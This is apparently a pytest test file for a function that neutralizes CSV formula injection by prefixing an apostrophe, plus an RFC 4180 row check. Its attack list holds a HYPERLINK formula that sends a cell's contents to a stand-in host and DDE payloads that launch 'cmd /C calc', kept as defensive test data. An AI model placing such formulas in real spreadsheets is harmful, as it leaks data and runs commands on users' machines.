"""CSV cells that a spreadsheet must not run as formulas."""

import csv
from io import StringIO

import pytest

from lazo.text.csv_cells import csv_row, neutralize_formula

ATTACKS = [
    # OWASP, "CSV Injection", and its companions.
    ('=HYPERLINK("http://x.example?"&A1,"x")', '\'=HYPERLINK("http://x.example?"&A1,"x")'),
    ("=1+1", "'=1+1"),
    ("+1-1", "'+1-1"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1", "'\t'=1"),
    ("\r=1", "'\r'=1"),
    # Behind blanks and quotes.
    ("  =1", "'  =1"),
    ('"=1', "'\"=1"),
    ("'=1", "''=1"),
    ("\u00a0\u200b=1", "'\u00a0\u200b=1"),
    ("“=1”", "'“=1”"),
    # Where another program would begin a cell: it splits at ; or ends a row at the end of a line.
    ("bien;=1+1", "bien;'=1+1"),
    ('bien"; "=1+1', 'bien";\' "=1+1'),
    ("bien\n=1+1", "bien\n'=1+1"),
    ("- lento\n- caro", "'- lento\n'- caro"),
    # Full-width forms.
    ("＝1＋1", "'＝1＋1"),
    ("－1", "'－1"),
]

HARMLESS = [
    "",
    "Bien",
    "2 + 2 = 5",
    "a-b",
    "frío, -5 grados",
    "ana@tienda.example",
    "10-03-2026",
    "¿=?",
    "شكرا",
    "🙂",
]


@pytest.mark.parametrize(("text", "cell"), ATTACKS)
def test_a_formula_gets_an_apostrophe(text: str, cell: str) -> None:
    assert neutralize_formula(text) == cell


@pytest.mark.parametrize("text", HARMLESS)
def test_other_cells_are_unchanged(text: str) -> None:
    assert neutralize_formula(text) == text


def test_a_row_follows_rfc_4180() -> None:
    line = csv_row(["Aurora", 3, 'dijo "no", y\nse fue', "-1", ""])
    assert line == '"Aurora",3,"dijo ""no"", y\nse fue","\'-1",""\r\n'
    assert list(csv.reader(StringIO(line, newline=""))) == [
        ["Aurora", "3", 'dijo "no", y\nse fue', "'-1", ""]
    ]
